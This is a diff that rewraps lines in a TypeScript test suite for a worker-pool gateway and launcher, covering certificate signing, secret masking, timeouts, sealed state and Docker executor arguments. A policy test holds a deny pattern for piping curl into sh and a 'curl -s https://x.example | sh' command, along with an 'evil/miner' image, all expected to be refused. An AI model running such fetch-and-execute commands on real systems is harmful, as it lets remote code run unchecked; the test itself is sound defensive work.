@@ -23,10 +23,18 @@ const POOL = "workers";
 /** The documented command, answered with the defaults as a user pressing Enter would. */
 async function opensslRequest(dir: string): Promise<{ keyBase64: string; csr: string }> {
   await new Promise<void>((resolve, reject) => {
-    const child = execFile("openssl", ["req", "-new", "-newkey", "rsa:4096", "-nodes", "-keyout", "spacelift.key", "-out", "spacelift.csr"], { cwd: dir }, (error) => (error ? reject(error) : resolve()));
+    const child = execFile(
+      "openssl",
+      ["req", "-new", "-newkey", "rsa:4096", "-nodes", "-keyout", "spacelift.key", "-out", "spacelift.csr"],
+      { cwd: dir },
+      (error) => (error ? reject(error) : resolve()),
+    );
     child.stdin?.end("\n".repeat(12));
   });
-  return { keyBase64: readFileSync(path.join(dir, "spacelift.key")).toString("base64"), csr: readFileSync(path.join(dir, "spacelift.csr"), "utf8") };
+  return {
+    keyBase64: readFileSync(path.join(dir, "spacelift.key")).toString("base64"),
+    csr: readFileSync(path.join(dir, "spacelift.csr"), "utf8"),
+  };
 }
 
 describe("worker pools: gateway run queue and launcher", function () {
@@ -42,7 +50,12 @@ describe("worker pools: gateway run queue and launcher", function () {
   let policyFile: string;
   let launcher: RunningAgent;
   const launcherLog = capturingLogger("launcher");
-  const launcherEnv = { PATH: process.env.PATH, VISIBLE_SETTING: "plain-value", DEPLOY_SECRET: "hunter2-very-secret", LAUNCHER_ONLY: "stays-home" };
+  const launcherEnv = {
+    PATH: process.env.PATH,
+    VISIBLE_SETTING: "plain-value",
+    DEPLOY_SECRET: "hunter2-very-secret",
+    LAUNCHER_ONLY: "stays-home",
+  };
 
   const settings = (overrides: Partial<Record<keyof LauncherSettings, unknown>> = {}): LauncherSettings =>
     launcherSettings.parse({
@@ -61,17 +74,30 @@ describe("worker pools: gateway run queue and launcher", function () {
   const api = `/_agentpools/api/workers/${POOL}/runs`;
   const service = serviceKey();
   async function submit(body: Record<string, unknown>): Promise<WorkerRun> {
-    const response = await fetch(`${url}${api}`, { method: "POST", headers: service.headers, body: JSON.stringify(body) });
+    const response = await fetch(`${url}${api}`, {
+      method: "POST",
+      headers: service.headers,
+      body: JSON.stringify(body),
+    });
     const run = (await response.json()) as WorkerRun;
     assert.equal(response.status, 201, JSON.stringify(run));
     return run;
   }
-  const status = async (id: string) => (await (await fetch(`${url}${api}/${id}`, { headers: service.headers })).json()) as WorkerRun & { logLines: number };
-  const logs = async (id: string) => (await (await fetch(`${url}${api}/${id}/logs`, { headers: service.headers })).text()).split("\n").slice(0, -1);
-  const finished = (id: string, ms = 15_000) => eventually(async () => {
-    const run = await status(id);
-    return !["queued", "running"].includes(run.status) && run;
-  }, ms, `run ${id} to finish`);
+  const status = async (id: string) =>
+    (await (await fetch(`${url}${api}/${id}`, { headers: service.headers })).json()) as WorkerRun & {
+      logLines: number;
+    };
+  const logs = async (id: string) =>
+    (await (await fetch(`${url}${api}/${id}/logs`, { headers: service.headers })).text()).split("\n").slice(0, -1);
+  const finished = (id: string, ms = 15_000) =>
+    eventually(
+      async () => {
+        const run = await status(id);
+        return !["queued", "running"].includes(run.status) && run;
+      },
+      ms,
+      `run ${id} to finish`,
+    );
 
   before(async () => {
     dir = scratchDir("worker-");
@@ -85,7 +111,10 @@ describe("worker pools: gateway run queue and launcher", function () {
     token = created.token;
     pools = [created.pool];
     policyFile = path.join(dir, "policy.json");
-    writeFileSync(policyFile, JSON.stringify({ allowedImages: ["alpine:*", "public.ecr.aws/*"], deniedCommands: ["curl [^|]*\\|\\s*sh"] }));
+    writeFileSync(
+      policyFile,
+      JSON.stringify({ allowedImages: ["alpine:*", "public.ecr.aws/*"], deniedCommands: ["curl [^|]*\\|\\s*sh"] }),
+    );
     gateway = new Gateway({ pools, keys: [service.definition], port, dataDir, log: capturingLogger("gateway").log });
     await gateway.listen();
     launcher = await launcherRole().start(settings(), { log: launcherLog.log, env: launcherEnv });
@@ -104,7 +133,10 @@ describe("worker pools: gateway run queue and launcher", function () {
     const { X509Certificate } = await import("node:crypto");
     const cert = new X509Certificate(decoded.certificate as string);
     assert.ok(cert.checkPrivateKey(privateKeyFromBase64(keyBase64)));
-    assert.ok(cert.verify(new X509Certificate(readFileSync(path.join(dataDir, "worker-ca.pem"))).publicKey), "signed by the gateway's worker CA");
+    assert.ok(
+      cert.verify(new X509Certificate(readFileSync(path.join(dataDir, "worker-ca.pem"))).publicKey),
+      "signed by the gateway's worker CA",
+    );
     assert.equal((await import("node:fs")).statSync(path.join(dataDir, "worker-ca.key")).mode & 0o777, 0o600);
   });
 
@@ -113,8 +145,29 @@ describe("worker pools: gateway run queue and launcher", function () {
     await assert.rejects(signPoolRequest(authority, "not a csr", "x"), /does not parse/);
     const ec = path.join(dir, "ec");
     (await import("node:fs")).mkdirSync(ec);
-    await exec("openssl", ["req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", "k", "-out", "c", "-subj", "/CN=x"], { cwd: ec });
-    await assert.rejects(signPoolRequest(authority, readFileSync(path.join(ec, "c"), "utf8"), "x"), /must be RSA of at least 2048 bits/);
+    await exec(
+      "openssl",
+      [
+        "req",
+        "-new",
+        "-newkey",
+        "ec",
+        "-pkeyopt",
+        "ec_paramgen_curve:P-256",
+        "-nodes",
+        "-keyout",
+        "k",
+        "-out",
+        "c",
+        "-subj",
+        "/CN=x",
+      ],
+      { cwd: ec },
+    );
+    await assert.rejects(
+      signPoolRequest(authority, readFileSync(path.join(ec, "c"), "utf8"), "x"),
+      /must be RSA of at least 2048 bits/,
+    );
   });
 
   it("lists the registered worker with its metadata tags beside the pools", () => {
@@ -125,14 +178,19 @@ describe("worker pools: gateway run queue and launcher", function () {
   });
 
   it("runs a submitted run: output lines in order, success, then a failing command's exit status", async () => {
-    const ok = await submit({ image: "alpine:3", commands: ["echo first", "printf 'second\\nthird\\n'", "echo to-stderr >&2"] });
+    const ok = await submit({
+      image: "alpine:3",
+      commands: ["echo first", "printf 'second\\nthird\\n'", "echo to-stderr >&2"],
+    });
     assert.equal(ok.status, "queued");
     const done = await finished(ok.id);
     assert.equal(done.status, "succeeded");
     assert.equal(done.exitCode, 0);
     assert.deepEqual(await logs(ok.id), ["first", "second", "third", "to-stderr"]);
 
-    const bad = await finished((await submit({ image: "alpine:3", commands: ["echo before", "exit 3", "echo never"] })).id);
+    const bad = await finished(
+      (await submit({ image: "alpine:3", commands: ["echo before", "exit 3", "echo never"] })).id,
+    );
     assert.equal(bad.status, "failed");
     assert.equal(bad.exitCode, 3);
     assert.match(bad.reason ?? "", /exited with code 3/);
@@ -149,24 +207,40 @@ describe("worker pools: gateway run queue and launcher", function () {
   it("environment: whitelisted variables pass, masked ones pass but never show, others stay with the launcher", async () => {
     const run = await submit({
       image: "alpine:3",
-      commands: ["echo VISIBLE=$VISIBLE_SETTING", "echo SECRET=$DEPLOY_SECRET", "echo RUNSECRET=$TF_VAR_password", "echo ONLY=${LAUNCHER_ONLY:-unset} TOKEN=${SPACELIFT_TOKEN:-unset} KEY=${SPACELIFT_POOL_PRIVATE_KEY:-unset}", "echo split:$(printf %s \"$DEPLOY_SECRET\" | cut -c1-7)"],
+      commands: [
+        "echo VISIBLE=$VISIBLE_SETTING",
+        "echo SECRET=$DEPLOY_SECRET",
+        "echo RUNSECRET=$TF_VAR_password",
+        "echo ONLY=${LAUNCHER_ONLY:-unset} TOKEN=${SPACELIFT_TOKEN:-unset} KEY=${SPACELIFT_POOL_PRIVATE_KEY:-unset}",
+        'echo split:$(printf %s "$DEPLOY_SECRET" | cut -c1-7)',
+      ],
       environment: { TF_VAR_password: "run-level-password", TF_VAR_region: "eu-west-1" },
     });
     await finished(run.id);
     const lines = await logs(run.id);
-    assert.deepEqual(lines, ["VISIBLE=plain-value", "SECRET=[masked]", "RUNSECRET=[masked]", "ONLY=unset TOKEN=unset KEY=unset", "split:hunter2"]);
+    assert.deepEqual(lines, [
+      "VISIBLE=plain-value",
+      "SECRET=[masked]",
+      "RUNSECRET=[masked]",
+      "ONLY=unset TOKEN=unset KEY=unset",
+      "split:hunter2",
+    ]);
     const stored = readdirSync(dataDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
     assert.ok(stored.some((entry) => entry.name === "gateway.db"));
     for (const entry of stored) {
       const bytes = readFileSync(path.join(entry.parentPath, entry.name));
-      for (const secret of ["hunter2-very-secret", "run-level-password", "eu-west-1"]) assert.ok(!bytes.includes(secret), `${entry.name} holds a secret in plain text`);
+      for (const secret of ["hunter2-very-secret", "run-level-password", "eu-west-1"])
+        assert.ok(!bytes.includes(secret), `${entry.name} holds a secret in plain text`);
     }
     assert.ok(!JSON.stringify(launcherLog.lines).includes("hunter2-very-secret"));
     assert.ok(!JSON.stringify(await status(run.id)).includes("run-level-password"));
   });
 
   it("masks a value even when the pipe splits it across reads", async () => {
-    const run = await submit({ image: "alpine:3", commands: ["printf 'x=hunter2-'; sleep 0.2; printf 'very-secret; done\\n'"] });
+    const run = await submit({
+      image: "alpine:3",
+      commands: ["printf 'x=hunter2-'; sleep 0.2; printf 'very-secret; done\\n'"],
+    });
     await finished(run.id);
     assert.deepEqual(await logs(run.id), ["x=[masked]; done"]);
   });
@@ -181,7 +255,10 @@ describe("worker pools: gateway run queue and launcher", function () {
   });
 
   it("kills a run at its run timeout even while it keeps printing", async () => {
-    const run = await finished((await submit({ image: "alpine:3", timeoutSeconds: 1, commands: ["while true; do echo tick; sleep 0.1; done"] })).id);
+    const run = await finished(
+      (await submit({ image: "alpine:3", timeoutSeconds: 1, commands: ["while true; do echo tick; sleep 0.1; done"] }))
+        .id,
+    );
     assert.equal(run.status, "timed_out");
     assert.match(run.reason ?? "", /took longer than 1s/);
     assert.equal((await logs(run.id)).at(-1), "[agentpools: killed: the run took longer than 1s]");
@@ -190,24 +267,49 @@ describe("worker pools: gateway run queue and launcher", function () {
   it("the run initialization policy refuses a run, with the reason in its log; the next run still runs", async () => {
     const image = await finished((await submit({ image: "docker.io/evil/miner:latest", commands: ["echo hi"] })).id);
     assert.equal(image.status, "refused");
-    assert.match((await logs(image.id))[0], /refused by the run initialization policy: image docker.io\/evil\/miner:latest is not allowed/);
-    const command = await finished((await submit({ image: "alpine:3", commands: ["echo ok", "curl -s https://x.example | sh"] })).id);
+    assert.match(
+      (await logs(image.id))[0],
+      /refused by the run initialization policy: image docker.io\/evil\/miner:latest is not allowed/,
+    );
+    const command = await finished(
+      (await submit({ image: "alpine:3", commands: ["echo ok", "curl -s https://x.example | sh"] })).id,
+    );
     assert.equal(command.status, "refused");
     assert.match(command.reason ?? "", /command 2 matches the denied pattern/);
-    assert.equal((await finished((await submit({ image: "alpine:3", commands: ["echo fine"] })).id)).status, "succeeded");
+    assert.equal(
+      (await finished((await submit({ image: "alpine:3", commands: ["echo fine"] })).id)).status,
+      "succeeded",
+    );
   });
 
   it("an invalid policy file stops the launcher at start-up with a clear error", () => {
     const bad = path.join(dir, "bad-policy.json");
     writeFileSync(bad, JSON.stringify({ allowedImage: ["alpine"], deniedCommands: ["(unclosed"] }));
-    assert.throws(() => launcherRole().start(settings({ runInitializationPolicyFile: bad }), { log: capturingLogger("l").log, env: {} }), (error: Error) => {
-      assert.match(error.message, /run initialization policy .*bad-policy.json is not valid/);
-      assert.match(error.message, /policy.allowedImage: is not a known field/);
-      assert.match(error.message, /policy.deniedCommands\[0\]: "\(unclosed" is not allowed: expected a valid regular expression/);
-      return true;
-    });
+    assert.throws(
+      () =>
+        launcherRole().start(settings({ runInitializationPolicyFile: bad }), {
+          log: capturingLogger("l").log,
+          env: {},
+        }),
+      (error: Error) => {
+        assert.match(error.message, /run initialization policy .*bad-policy.json is not valid/);
+        assert.match(error.message, /policy.allowedImage: is not a known field/);
+        assert.match(
+          error.message,
+          /policy.deniedCommands\[0\]: "\(unclosed" is not allowed: expected a valid regular expression/,
+        );
+        return true;
+      },
+    );
     writeFileSync(bad, "{ not json");
-    assert.throws(() => launcherRole().start(settings({ runInitializationPolicyFile: bad }), { log: capturingLogger("l").log, env: {} }), /cannot be read as JSON/);
+    assert.throws(
+      () =>
+        launcherRole().start(settings({ runInitializationPolicyFile: bad }), {
+          log: capturingLogger("l").log,
+          env: {},
+        }),
+      /cannot be read as JSON/,
+    );
   });
 
   it("extra mounts: malformed values are refused by the schema, missing host paths at start-up", () => {
@@ -216,20 +318,48 @@ describe("worker pools: gateway run queue and launcher", function () {
       assert.ok(!result.success, `${bad} was accepted`);
       assert.match(result.error.issues[0].message, /must be "\/host\/path:\/container\/path"/);
     }
-    assert.ok(launcherSettings.safeParse({ token: "t", poolPrivateKey: keyBase64, extraMounts: ["/etc/ssl/certs:/etc/ssl/certs:ro", "/opt/x..y:/x"] }).success);
-    assert.throws(() => launcherRole().start(settings({ extraMounts: ["/nonexistent/agentpools:/x"] }), { log: capturingLogger("l").log, env: {} }), /SPACELIFT_WORKER_EXTRA_MOUNTS: \/nonexistent\/agentpools does not exist/);
+    assert.ok(
+      launcherSettings.safeParse({
+        token: "t",
+        poolPrivateKey: keyBase64,
+        extraMounts: ["/etc/ssl/certs:/etc/ssl/certs:ro", "/opt/x..y:/x"],
+      }).success,
+    );
+    assert.throws(
+      () =>
+        launcherRole().start(settings({ extraMounts: ["/nonexistent/agentpools:/x"] }), {
+          log: capturingLogger("l").log,
+          env: {},
+        }),
+      /SPACELIFT_WORKER_EXTRA_MOUNTS: \/nonexistent\/agentpools does not exist/,
+    );
   });
 
   it("state is sealed for the pool at the gateway and opened by the worker of a later run", async () => {
-    const first = await finished((await submit({ image: "alpine:3", commands: ['mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")"', 'echo "serial=41 resources=aws_vpc.main" > "$AGENTPOOLS_STATE_FILE"'] })).id);
+    const first = await finished(
+      (
+        await submit({
+          image: "alpine:3",
+          commands: [
+            'mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")"',
+            'echo "serial=41 resources=aws_vpc.main" > "$AGENTPOOLS_STATE_FILE"',
+          ],
+        })
+      ).id,
+    );
     assert.equal(first.status, "succeeded");
     assert.equal(first.state, true);
     const stored = readFileSync(path.join(dataDir, "state", first.id));
     assert.equal(stored.subarray(0, 4).toString(), "APS1");
     assert.ok(!stored.includes("serial=41"), "the gateway must hold ciphertext only");
-    assert.equal((await openBuffer(privateKeyFromBase64(keyBase64), stored)).toString(), "serial=41 resources=aws_vpc.main\n");
+    assert.equal(
+      (await openBuffer(privateKeyFromBase64(keyBase64), stored)).toString(),
+      "serial=41 resources=aws_vpc.main\n",
+    );
 
-    const second = await finished((await submit({ image: "alpine:3", stateFrom: first.id, commands: ['cat "$AGENTPOOLS_STATE_FILE"'] })).id);
+    const second = await finished(
+      (await submit({ image: "alpine:3", stateFrom: first.id, commands: ['cat "$AGENTPOOLS_STATE_FILE"'] })).id,
+    );
     assert.equal(second.status, "succeeded");
     assert.deepEqual(await logs(second.id), ["serial=41 resources=aws_vpc.main"]);
     assert.equal(second.state, true, "the state it started from is carried on");
@@ -237,7 +367,9 @@ describe("worker pools: gateway run queue and launcher", function () {
     const tampered = Buffer.from(stored);
     tampered[tampered.length - 20] ^= 1;
     writeFileSync(path.join(dataDir, "state", first.id), tampered);
-    const third = await finished((await submit({ image: "alpine:3", stateFrom: first.id, commands: ["echo should-not-run"] })).id);
+    const third = await finished(
+      (await submit({ image: "alpine:3", stateFrom: first.id, commands: ["echo should-not-run"] })).id,
+    );
     assert.equal(third.status, "failed");
     assert.match(third.reason ?? "", /state of run .* cannot be opened: the sealed state failed authentication/);
     assert.deepEqual(await logs(third.id), []);
@@ -247,12 +379,25 @@ describe("worker pools: gateway run queue and launcher", function () {
     for (const [body, message] of [
       [{ image: "alpine:3", commands: [] }, /commands must be a non-empty list/],
       [{ image: "-bad", commands: ["x"] }, /image "-bad" must be an image reference/],
-      [{ image: "alpine:3", commands: ["x"], timeoutSeconds: 0 }, /timeoutSeconds 0 must be an integer from 1 to 86400/],
-      [{ image: "alpine:3", commands: ["x"], environment: { "1BAD": "x" } }, /environment "1BAD" must be a variable name/],
-      [{ image: "alpine:3", commands: ["x"], stateFrom: "00000000-0000-0000-0000-000000000000" }, /stateFrom .* must be a finished run/],
+      [
+        { image: "alpine:3", commands: ["x"], timeoutSeconds: 0 },
+        /timeoutSeconds 0 must be an integer from 1 to 86400/,
+      ],
+      [
+        { image: "alpine:3", commands: ["x"], environment: { "1BAD": "x" } },
+        /environment "1BAD" must be a variable name/,
+      ],
+      [
+        { image: "alpine:3", commands: ["x"], stateFrom: "00000000-0000-0000-0000-000000000000" },
+        /stateFrom .* must be a finished run/,
+      ],
       [{ image: "alpine:3", commands: ["x"], sneaky: 1 }, /unknown fields sneaky/],
     ] as const) {
-      const response = await fetch(`${url}${api}`, { method: "POST", headers: service.headers, body: JSON.stringify(body) });
+      const response = await fetch(`${url}${api}`, {
+        method: "POST",
+        headers: service.headers,
+        body: JSON.stringify(body),
+      });
       assert.equal(response.status, 400);
       assert.match(((await response.json()) as { error: string }).error, message);
     }
@@ -261,7 +406,10 @@ describe("worker pools: gateway run queue and launcher", function () {
   it("a wrong key stops the launcher before it connects", () => {
     const other = generateKeyPairSync("rsa", { modulusLength: 2048 });
     const otherBase64 = Buffer.from(other.privateKey.export({ type: "pkcs8", format: "pem" })).toString("base64");
-    assert.throws(() => launcherRole().start(settings({ poolPrivateKey: otherBase64 }), { log: capturingLogger("l").log, env: {} }), /SPACELIFT_POOL_PRIVATE_KEY does not belong to the certificate in SPACELIFT_TOKEN/);
+    assert.throws(
+      () => launcherRole().start(settings({ poolPrivateKey: otherBase64 }), { log: capturingLogger("l").log, env: {} }),
+      /SPACELIFT_POOL_PRIVATE_KEY does not belong to the certificate in SPACELIFT_TOKEN/,
+    );
   });
 
   it("a wrong token is refused: a bad secret by the gateway, another pool kind's token at start-up", async () => {
@@ -270,16 +418,31 @@ describe("worker pools: gateway run queue and launcher", function () {
     const refused = await launcherRole().start(settings({ token: forged }), { log: capturingLogger("l").log, env: {} });
     await assert.rejects(refused.stopped, /refused the connection: 401/);
     const vcs = createPool("git", "vcs", url).token;
-    assert.throws(() => launcherRole().start(settings({ token: vcs }), { log: capturingLogger("l").log, env: {} }), /carries no certificate/);
+    assert.throws(
+      () => launcherRole().start(settings({ token: vcs }), { log: capturingLogger("l").log, env: {} }),
+      /carries no certificate/,
+    );
   });
 
   it("a gateway restarted during a run loses nothing: the worker reconnects and delivers log, status and state", async () => {
-    const run = await submit({ image: "alpine:3", commands: ["echo before", "for i in 1 2 3 4 5 6 7 8; do echo tick $i; sleep 0.25; done", 'mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")"; echo kept > "$AGENTPOOLS_STATE_FILE"', "echo after"] });
+    const run = await submit({
+      image: "alpine:3",
+      commands: [
+        "echo before",
+        "for i in 1 2 3 4 5 6 7 8; do echo tick $i; sleep 0.25; done",
+        'mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")"; echo kept > "$AGENTPOOLS_STATE_FILE"',
+        "echo after",
+      ],
+    });
     await eventually(async () => (await status(run.id)).logLines >= 2, 5000, "the run to start");
     const before = launcherLog.lines.length;
     await gateway.close();
     // The outage is real once the launcher has failed to dial back while its run goes on.
-    await eventually(() => launcherLog.lines.slice(before).some((line) => line.msg === "cannot reach the gateway"), 10_000, "a failed redial");
+    await eventually(
+      () => launcherLog.lines.slice(before).some((line) => line.msg === "cannot reach the gateway"),
+      10_000,
+      "a failed redial",
+    );
     gateway = new Gateway({ pools, keys: [service.definition], port, dataDir, log: capturingLogger("gateway").log });
     await gateway.listen();
     const done = await finished(run.id, 20_000);
@@ -292,9 +455,21 @@ describe("worker pools: gateway run queue and launcher", function () {
   it("drains on SIGTERM: takes no new run, finishes the current one, exits 0", async () => {
     const exited: number[] = [];
     let stop!: (signal: string) => void;
-    const env = { ...launcherEnv, SPACELIFT_TOKEN: token, SPACELIFT_POOL_PRIVATE_KEY: keyBase64, AGENTPOOLS_WORKER_EXECUTOR: "process", AGENTPOOLS_WORK_DIR: path.join(dir, "drain-runs"), SPACELIFT_LAUNCHER_LOGS_TIMEOUT: "5s" };
+    const env = {
+      ...launcherEnv,
+      SPACELIFT_TOKEN: token,
+      SPACELIFT_POOL_PRIVATE_KEY: keyBase64,
+      AGENTPOOLS_WORKER_EXECUTOR: "process",
+      AGENTPOOLS_WORK_DIR: path.join(dir, "drain-runs"),
+      SPACELIFT_LAUNCHER_LOGS_TIMEOUT: "5s",
+    };
     await launcher.drain(Date.now() + 2000);
-    const running = runRole(launcherRole(), settingsJsonSchema("launcher"), { env, argv: [], exit: (code) => exited.push(code), stopSignal: new Promise((resolve) => (stop = resolve)) });
+    const running = runRole(launcherRole(), settingsJsonSchema("launcher"), {
+      env,
+      argv: [],
+      exit: (code) => exited.push(code),
+      stopSignal: new Promise((resolve) => (stop = resolve)),
+    });
     await eventually(() => gateway.summary()[0].connections === 1);
     const current = await submit({ image: "alpine:3", commands: ["echo started", "sleep 1", "echo finished"] });
     await eventually(async () => (await status(current.id)).logLines >= 1);
@@ -328,21 +503,49 @@ describe("worker pools: a gateway without a data directory", function () {
     const port = await freePort();
     const url = `http://127.0.0.1:${port}`;
     const { keyBase64, csr } = await makePoolKeyAndRequest("mem");
-    const created = createPool("mem", "worker", url, await signPoolRequest(await loadOrCreateAuthority(dir), csr, "mem"));
+    const created = createPool(
+      "mem",
+      "worker",
+      url,
+      await signPoolRequest(await loadOrCreateAuthority(dir), csr, "mem"),
+    );
     const gateway = new Gateway({ pools: [created.pool], port, log: capturingLogger("gateway").log });
     await gateway.listen();
-    const launcher = await launcherRole().start(launcherSettings.parse({ token: created.token, poolPrivateKey: keyBase64, executor: "process", workDirectory: path.join(dir, "runs") }), { log: capturingLogger("launcher").log, env: { PATH: process.env.PATH } });
+    const launcher = await launcherRole().start(
+      launcherSettings.parse({
+        token: created.token,
+        poolPrivateKey: keyBase64,
+        executor: "process",
+        workDirectory: path.join(dir, "runs"),
+      }),
+      { log: capturingLogger("launcher").log, env: { PATH: process.env.PATH } },
+    );
     try {
       await launcher.ready;
-      const run = await gateway.workers.submit("mem", { image: "alpine:3", commands: ['mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")"', 'head -c 70000000 /dev/zero > "$AGENTPOOLS_STATE_FILE"', "echo done"] });
-      const done = await eventually(async () => {
-        const current = await gateway.workers.get("mem", run.id);
-        return !["queued", "running"].includes(current.status) && current;
-      }, 30_000, "the run to be reported");
+      const run = await gateway.workers.submit("mem", {
+        image: "alpine:3",
+        commands: [
+          'mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")"',
+          'head -c 70000000 /dev/zero > "$AGENTPOOLS_STATE_FILE"',
+          "echo done",
+        ],
+      });
+      const done = await eventually(
+        async () => {
+          const current = await gateway.workers.get("mem", run.id);
+          return !["queued", "running"].includes(current.status) && current;
+        },
+        30_000,
+        "the run to be reported",
+      );
       assert.equal(done.status, "succeeded");
       assert.equal(done.state, false);
       assert.match(done.reason ?? "", /state was too large for the gateway to store/);
-      assert.equal(gateway.workers.summary("mem").agents[0].currentRun, undefined, "the launcher is free for the next run");
+      assert.equal(
+        gateway.workers.summary("mem").agents[0].currentRun,
+        undefined,
+        "the launcher is free for the next run",
+      );
     } finally {
       await launcher.drain(Date.now() + 2000);
       await gateway.close();
@@ -354,16 +557,52 @@ describe("worker pools: the Docker executor", () => {
   it("issues docker run with network, runtime, mounts, config dir and variables by name only", async () => {
     const { dockerRunArgs } = await import("../agent/launcher/executor");
     const args = dockerRunArgs(
-      { dockerConfigDir: "/etc/agentpools/docker", workerNetwork: "runs", workerRuntime: "runsc", extraMounts: ["/etc/ssl/certs:/etc/ssl/certs:ro", "/opt/cache:/cache"] },
-      { id: "r1", image: "public.ecr.aws/spacelift/runner-terraform:latest", script: "terraform init\nterraform plan", env: { TF_VAR_password: "pw", B: "1" }, workspace: "/var/lib/agentpools/runs/r1/workspace" },
+      {
+        dockerConfigDir: "/etc/agentpools/docker",
+        workerNetwork: "runs",
+        workerRuntime: "runsc",
+        extraMounts: ["/etc/ssl/certs:/etc/ssl/certs:ro", "/opt/cache:/cache"],
+      },
+      {
+        id: "r1",
+        image: "public.ecr.aws/spacelift/runner-terraform:latest",
+        script: "terraform init\nterraform plan",
+        env: { TF_VAR_password: "pw", B: "1" },
+        workspace: "/var/lib/agentpools/runs/r1/workspace",
+      },
     );
     assert.deepEqual(args, [
-      "--config", "/etc/agentpools/docker", "run", "--rm", "--name", "agentpools-run-r1", "--label", "agentpools.run=r1", "--network", "runs", "--runtime", "runsc",
-      "--security-opt", "no-new-privileges", "--init",
-      "--mount", "type=bind,source=/var/lib/agentpools/runs/r1/workspace,target=/workspace", "--workdir", "/workspace",
-      "--mount", "type=bind,source=/etc/ssl/certs,target=/etc/ssl/certs,readonly", "--mount", "type=bind,source=/opt/cache,target=/cache",
-      "--env-file", "/var/lib/agentpools/runs/r1/env",
-      "--entrypoint", "/bin/sh", "--", "public.ecr.aws/spacelift/runner-terraform:latest", "-ec", "terraform init\nterraform plan",
+      "--config",
+      "/etc/agentpools/docker",
+      "run",
+      "--rm",
+      "--name",
+      "agentpools-run-r1",
+      "--label",
+      "agentpools.run=r1",
+      "--network",
+      "runs",
+      "--runtime",
+      "runsc",
+      "--security-opt",
+      "no-new-privileges",
+      "--init",
+      "--mount",
+      "type=bind,source=/var/lib/agentpools/runs/r1/workspace,target=/workspace",
+      "--workdir",
+      "/workspace",
+      "--mount",
+      "type=bind,source=/etc/ssl/certs,target=/etc/ssl/certs,readonly",
+      "--mount",
+      "type=bind,source=/opt/cache,target=/cache",
+      "--env-file",
+      "/var/lib/agentpools/runs/r1/env",
+      "--entrypoint",
+      "/bin/sh",
+      "--",
+      "public.ecr.aws/spacelift/runner-terraform:latest",
+      "-ec",
+      "terraform init\nterraform plan",
     ]);
     assert.ok(!args.join(" ").includes("pw"), "no value on the command line");
   });
@@ -373,20 +612,39 @@ describe("worker pools: the Docker executor", () => {
     const dir = scratchDir("docker-");
     // A stand-in for the docker CLI (no engine runs here): it records what it was given and runs the script.
     const fake = path.join(dir, "docker");
-    writeFileSync(fake, `#!/bin/sh\necho "$*" >> "${dir}/calls"\nif [ "$1" = kill ] || [ "$3" = kill ]; then exit 0; fi\nfor last; do :; done\necho "secret-in-env=$TF_VAR_password"\ncat "${dir}/env"; echo\nexec /bin/sh -ec "$last"\n`);
+    writeFileSync(
+      fake,
+      `#!/bin/sh\necho "$*" >> "${dir}/calls"\nif [ "$1" = kill ] || [ "$3" = kill ]; then exit 0; fi\nfor last; do :; done\necho "secret-in-env=$TF_VAR_password"\ncat "${dir}/env"; echo\nexec /bin/sh -ec "$last"\n`,
+    );
     chmodSync(fake, 0o755);
-    const settings = launcherSettings.parse({ token: "t", poolPrivateKey: Buffer.from("-----BEGIN PRIVATE KEY-----").toString("base64"), workerNetwork: "runs" });
+    const settings = launcherSettings.parse({
+      token: "t",
+      poolPrivateKey: Buffer.from("-----BEGIN PRIVATE KEY-----").toString("base64"),
+      workerNetwork: "runs",
+    });
     const executor = dockerExecutor(settings, { PATH: process.env.PATH, DOCKER_HOST: "unix:///run/docker.sock" }, fake);
     assert.equal(executor.workspaceInRun(dir), "/workspace");
     const output: string[] = [];
-    const run = executor.start({ id: "r2", image: "alpine:3", script: "echo from-container; exit 4", env: { TF_VAR_password: "pw-1", KEY: "a\nb" }, workspace: path.join(dir, "workspace") });
+    const run = executor.start({
+      id: "r2",
+      image: "alpine:3",
+      script: "echo from-container; exit 4",
+      env: { TF_VAR_password: "pw-1", KEY: "a\nb" },
+      workspace: path.join(dir, "workspace"),
+    });
     run.onOutput((chunk) => output.push(chunk.toString()));
     assert.deepEqual(await run.exited, { code: 4, signal: null });
     // The value of one line through the file, the value of several by name through the client's environment.
     assert.equal(output.join(""), "secret-in-env=\nTF_VAR_password=pw-1\nKEY\nfrom-container\n");
     assert.ok(!existsSync(path.join(dir, "env")), "the env file is removed once the client is done");
 
-    const long = executor.start({ id: "r3", image: "alpine:3", script: "exec sleep 30", env: {}, workspace: path.join(dir, "workspace") });
+    const long = executor.start({
+      id: "r3",
+      image: "alpine:3",
+      script: "exec sleep 30",
+      env: {},
+      workspace: path.join(dir, "workspace"),
+    });
     setTimeout(() => long.kill(), 200);
     assert.equal((await long.exited).signal, "SIGKILL");
     await eventually(() => readFileSync(path.join(dir, "calls"), "utf8").includes("kill agentpools-run-r3"));
